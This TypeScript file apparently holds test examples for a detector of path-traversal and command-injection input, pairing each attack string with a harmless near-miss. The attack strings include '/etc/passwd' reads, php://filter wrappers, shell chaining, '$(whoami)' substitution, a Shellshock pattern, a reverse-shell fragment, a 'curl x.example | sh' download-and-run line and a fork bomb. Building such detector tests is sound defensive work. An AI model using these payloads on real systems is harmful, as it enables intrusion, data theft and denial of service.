import type { COMMAND_RULES } from '../command/rules.ts';
import type { TRAVERSAL_RULES } from '../traversal/rules.ts';
import type { Examples } from './test-example.ts';

/** Examples of the rules of file names. */
export const TRAVERSAL_EXAMPLES: Examples<typeof TRAVERSAL_RULES> = {
  'climb-path': { attack: '/static/../x', near: '/static/..x', place: 'path' },
  'climb-many': { attack: '../../x', near: '1..2..3' },
  'climb-one': { attack: '../x.txt', near: 'wait...' },
  'climb-mention': { attack: 'please use ../helper for the new import', near: 'and so on .. / and so forth' },
  'climb-hidden': { attack: '....//x', near: '.... / x' },
  'secret-file': { attack: '/etc/passwd', near: '/docs/passwd.md' },
  'secret-file-mention': {
    attack: 'what is inside the file /etc/passwd on servers',
    near: 'et cetera / passwords',
  },
  'system-folder': { attack: '/usr/local/x', near: '/usr/locale/x' },
  wrapper: { attack: 'php://filter/x', near: 'PHP: filter' },
  'nul-byte': { attack: 'x.php\0.png', near: 'x.php.png' },
  'network-share': { attack: '\\\\host\\share\\x', near: 'domain\\user' },
  'device-path': { attack: '\\\\?\\c:\\x', near: 'c:\\x' },
};

/** Examples of the rules of commands. */
export const COMMAND_EXAMPLES: Examples<typeof COMMAND_RULES> = {
  'chained-program': { attack: '127.0.0.1;cat /etc/hosts', near: 'cats; dogs' },
  'chained-word': { attack: 'x | sort y', near: 'how many | cups' },
  'chained-option': { attack: 'x;frobnicate --now', near: 'red; blue - green' },
  'option-injection': { attack: '--exec=x', near: '-5 degrees' },
  substitution: { attack: '$(whoami)', near: '$(5)' },
  'substitution-loose': { attack: '$(frobnicate)', near: '(frobnicate)' },
  'substitution-mention': {
    attack: 'you can run `npm install` in the folder first',
    near: 'the `price` of the thing',
  },
  'whole-command': { attack: 'cat /tmp/x', near: 'cat food' },
  'program-path': { attack: '/bin/ls', near: '/binary/ls' },
  'hidden-word': { attack: ";c'a't /x", near: "; can't see" },
  'hidden-space': { attack: 'cat${IFS}/x', near: '$if x' },
  'reverse-shell': { attack: 'bash -i >x', near: 'bash in' },
  redirect: { attack: 'x>/tmp/y', near: 'x > y' },
  'shell-function': { attack: '() { :;}; x', near: '() => {}' },
  'windows-shell': { attack: 'cmd /c dir', near: 'cmd + c' },
  'windows-command': { attack: 'if exist x%y% del y', near: 'if you exist' },
  'download-run': { attack: 'curl x.example | sh', near: 'a shell | she' },
  'fork-bomb': { attack: ':(){ :|:& };:', near: 'f(){ return }' },
};
